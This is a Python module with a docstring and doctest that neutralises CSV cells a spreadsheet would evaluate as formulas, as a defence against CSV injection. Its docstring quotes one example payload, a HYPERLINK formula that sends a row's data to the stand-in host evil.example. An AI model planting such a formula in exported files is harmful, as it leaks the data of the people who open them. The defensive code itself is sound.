"""CSV cells a spreadsheet would run as a formula, turned into plain text.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@`
(and some do after a leading tab or carriage return) as a formula: a product named
`=HYPERLINK("http://evil.example/?"&A2, "Open")` in an exported file becomes a live link
that sends the row to someone else, or worse. Names, SKUs, titles and messages come from
platform exports, webhooks and people, so every CSV LiveStock writes for a person to open
goes through `neutralise_cell` first (OWASP's advice on CSV injection): such a text cell
gets a leading `'`, which spreadsheets take as "this is text" and do not display.
A table goes through it cell by cell and name by name:
`frame.rename(columns=neutralise_cell).map(neutralise_cell).to_csv(...)`.

Numbers stay numbers: int and float cells are left as they are, and so is text that is just
a number ("-12.5", "+3", "1e-4"), which a spreadsheet reads as that number and never as a
call. The defusedcsv package does the same for the csv module's writer, but it also quotes
numbers written as text, leaves tabs and carriage returns alone and does not fit pandas'
`to_csv`; the rule is small enough to keep here, with its tests.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise_cell(value: object) -> object:
    """`value`, with a leading `'` when it is text a spreadsheet would run as a formula.

    >>> neutralise_cell("=1+1"), neutralise_cell("-12.5"), neutralise_cell(-3)
    ("'=1+1", '-12.5', -3)
    """
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return TEXT_MARK + value
    return value

